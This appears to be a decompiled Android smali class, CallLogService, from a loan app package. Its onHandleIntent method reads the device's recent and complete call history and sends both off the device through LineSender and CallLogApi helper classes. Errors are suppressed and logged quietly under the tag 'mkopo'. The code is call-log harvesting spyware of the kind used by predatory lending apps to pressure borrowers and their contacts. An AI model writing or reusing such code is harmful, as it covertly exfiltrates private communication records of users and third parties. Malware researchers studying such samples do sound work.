# The framework calls onHandleIntent on a thread of its own; it is the entry point.
.class public final Lorg/example/loan/calllog/CallLogService;
.super Landroid/app/IntentService;
.source "CallLogService.java"


.method public constructor <init>()V
    .registers 2

    const-string v0, "calls"

    .line 10
    invoke-direct {p0, v0}, Landroid/app/IntentService;-><init>(Ljava/lang/String;)V

    return-void
.end method


.method protected onHandleIntent(Landroid/content/Intent;)V
    .registers 4

    .line 16
    :try_start_0
    invoke-static {p0}, Lorg/example/loan/calllog/CallHistory;->recent(Landroid/content/Context;)Ljava/lang/String;

    move-result-object p1

    invoke-static {p1}, Lorg/example/loan/calllog/LineSender;->send(Ljava/lang/String;)V

    .line 17
    invoke-static {p0}, Lorg/example/loan/calllog/CallHistory;->all(Landroid/content/Context;)Lorg/json/JSONArray;

    move-result-object p1

    invoke-static {p1}, Lorg/example/loan/calllog/CallLogApi;->post(Lorg/json/JSONArray;)V
    :try_end_e
    .catch Ljava/lang/Exception; {:try_start_0 .. :try_end_e} :catch_f

    goto :goto_17

    :catch_f
    move-exception p1

    const-string v0, "mkopo"

    const-string v1, "later"

    .line 19
    invoke-static {v0, v1, p1}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;Ljava/lang/Throwable;)I

    :goto_17
    return-void
.end method
